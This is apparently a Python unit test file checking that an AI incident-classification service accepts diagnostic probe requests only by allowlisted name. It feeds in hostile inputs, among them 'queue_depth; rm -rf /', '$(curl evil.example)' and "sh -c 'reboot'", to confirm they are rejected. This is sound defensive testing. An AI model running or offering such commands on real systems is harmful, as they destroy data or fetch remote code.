"""The AI may ask for a probe by name from the configured ones, never for a command."""

from __future__ import annotations

import json

from agents.ai.service import AIService, probe_requests
from agents.ai.validation import check_output
from schemas.ai_tasks import ClassifyInput
from tests.unit.ai.conftest import FakeClock, classify_request, finding
from tests.unit.ai.fakes import openai_reply

PROBES = frozenset({"queue_depth", "db_connections", "http_5xx_rate"})
ANSWER = {"severity": "P2", "one_off": False, "category": "dependency", "probable_cause": "the queue backs up",
          "confidence": 0.7}


def _check(probes: list, offered: list[str] | None = None) -> tuple[dict, list[str]]:
    inp = ClassifyInput(service="api", finding=finding(), probes=offered or [])
    out, problems, notes = check_output("classify", inp, {**ANSWER, "probes": probes}, frozenset(), PROBES)
    assert problems == []
    return out, notes


def test_a_configured_probe_name_is_kept():
    out, notes = _check(["queue_depth"])
    assert out["probes"] == ["queue_depth"] and notes == []


def test_an_unknown_name_is_dropped_and_the_drop_recorded():
    out, notes = _check(["queue_depht", "queue_depth"])
    assert out["probes"] == ["queue_depth"] and notes == ["probe_not_allowlisted"]
    out, notes = _check(["db_connections"], offered=["queue_depth"])  # configured, but not offered here
    assert "probes" not in out and notes == ["probe_not_allowlisted"]


def test_a_command_a_path_or_arguments_is_never_a_name():
    for asked in ("redis-cli LLEN jobs:pending", "/usr/local/bin/queue_depth", "queue_depth; rm -rf /",
                  "queue_depth --all", "$(curl evil.example)", "../queue_depth", "queue_depth\n"):
        out, notes = _check([asked])
        assert "probes" not in out and notes == ["probe_not_a_name"], asked
        assert out["severity"] == "P2"  # the classification itself stands


def test_at_most_three_each_once():
    out, notes = _check(["queue_depth", "queue_depth", "db_connections", "http_5xx_rate"])
    assert out["probes"] == ["queue_depth", "db_connections", "http_5xx_rate"] and notes == []
    too_many = ClassifyInput(service="api", finding=finding())
    out, _, notes = check_output("classify", too_many, {**ANSWER, "probes": ["a1", "a2", "a3", "a4"]}, frozenset(),
                                 frozenset({"a1", "a2", "a3", "a4"}))
    assert out["probes"] == ["a1", "a2", "a3"] and notes == ["probes_over_limit_dropped"]


async def test_the_model_sees_the_probe_names_and_its_ask_becomes_a_request(fake_server, openai_cfg):
    fake_server.replies.append(openai_reply({**ANSWER, "probes": ["queue_depth", "sh -c 'reboot'"]}))
    service = AIService(openai_cfg, clock=FakeClock(), probes={name: [] for name in PROBES})
    result, audit = await service.handle(classify_request(incident_id="api-20231114T2213Z-1"))
    await service.aclose()
    prompt = json.dumps(fake_server.requests[0].body)
    assert "queue_depth" in prompt and "db_connections" in prompt  # offered by name
    assert result.output["probes"] == ["queue_depth"]
    assert "probe_not_a_name" in audit.fallback_reason and "reboot" not in audit.fallback_reason
    [request] = probe_requests(result)
    assert (request.probe, request.service, request.incident_id) == ("queue_depth", "api", "api-20231114T2213Z-1")
    assert request.id == f"{result.request_id}|queue_depth" and request.requested_by == "ai:openai"


async def test_the_local_answer_asks_for_the_probes_declared_for_its_category():
    # An out-of-memory line is a "resource" finding for the local classifier.
    oom = finding(error_type="MemoryError", template="worker <*> killed: out of memory",
                  samples=["worker 7 killed: out of memory"])
    from agents.ai.config import AIConfig

    service = AIService(AIConfig(), clock=FakeClock(),
                        probes={"memory_top": ["resource"], "queue_depth": ["dependency"], "disk_free": []})
    result, _ = await service.handle(classify_request(oom))
    assert result.output["category"] == "resource" and result.output["probes"] == ["memory_top"]
    plain, _ = await AIService(AIConfig(), clock=FakeClock()).handle(classify_request(oom))
    assert "probes" not in plain.output and probe_requests(plain) == []
